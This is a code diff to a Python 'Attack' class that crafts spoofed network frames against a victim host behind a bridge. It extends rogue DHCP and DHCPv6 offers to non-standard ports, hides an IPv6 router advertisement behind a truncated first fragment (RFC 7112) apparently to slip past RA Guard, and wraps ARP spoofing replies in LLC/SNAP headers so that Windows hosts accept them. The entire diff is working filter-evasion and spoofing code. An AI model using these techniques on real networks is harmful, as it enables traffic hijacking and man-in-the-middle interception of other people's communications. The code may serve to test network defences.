@@ -44,10 +44,11 @@ class Attack:
                 for target in (BROADCAST, self.victim, self.bridge)]
 
     def dhcp(self) -> list[bytes]:
-        offer = frames.udp(67, 68, frames.dhcp_offer(self.victim, self.victim4, "10.66.66.1"))
-        solicited = frames.udp(547, 546, b"\x02vdn")
-        return [*self.to_each(IPV4, frames.ipv4("10.66.66.1", "255.255.255.255", UDP, offer)),
-                *self.to_each(IPV6, frames.ipv6(self.own6, "ff02::1", UDP, solicited))]
+        """From the port of a server, and from another: clients take either."""
+        offer = frames.dhcp_offer(self.victim, self.victim4, "10.66.66.1")
+        return [frame for port, port6 in ((67, 547), (6767, 5470)) for frame in (
+            *self.to_each(IPV4, frames.ipv4("10.66.66.1", "255.255.255.255", UDP, frames.udp(port, 68, offer))),
+            *self.to_each(IPV6, frames.ipv6(self.own6, "ff02::1", UDP, frames.udp(port6, 546, b"\x02vdn"))))]
 
     def router_advertisement(self) -> list[bytes]:
         advert = frames.router_advertisement(self.own, PREFIX)
@@ -57,8 +58,10 @@ class Attack:
         options = bytes([ICMPV6, 0, 1, 4, 0, 0, 0, 0]) + summed
         fragment = bytes([ICMPV6, 0, 0, 0, 0, 0, 0, 9]) + summed
         both = bytes([44, 0, 1, 4, 0, 0, 0, 0]) + fragment
+        # A first fragment that ends before its headers do (RFC 7112): what it is stands in the next.
+        cut = bytes([60, 0, 0, 1, 0, 0, 0, 9]) + bytes([ICMPV6, 1, 1, 12, 0, 0, 0, 0])
         hidden = [plain[:4] + len(body).to_bytes(2, "big") + bytes([kind, 255]) + plain[8:40] + body
-                  for kind, body in ((60, options), (44, fragment), (60, both), (0, options))]
+                  for kind, body in ((60, options), (44, fragment), (60, both), (0, options), (44, cut))]
         return [frame for packet in (plain, *hidden) for frame in (
             *self.to_each(IPV6, packet),
             frames.ethernet("33:33:00:00:00:01", self.own, IPV6, packet))]
@@ -69,7 +72,10 @@ class Attack:
                   frames.arp(2, mine, (self.victim, self.victim4)),
                   frames.arp(1, mine, (self.victim, self.victim4)),
                   frames.arp(2, (self.bridge, self.host), (self.victim, self.victim4))]
-        return [frame for claim in claims for frame in self.to_each(ARP, claim)]
+        # Windows unpacks what stands behind an LLC/SNAP header (RFC 1042).
+        packed = [b"\xaa\xaa\x03\0\0\0\x08\x06" + claim for claim in claims]
+        return [*(frame for claim in claims for frame in self.to_each(ARP, claim)),
+                *(frame for body in packed for frame in self.to_each(len(body), body))]
 
     def neighbour(self) -> list[bytes]:
         return [frame for address in self.host6 for frame in self.to_each(
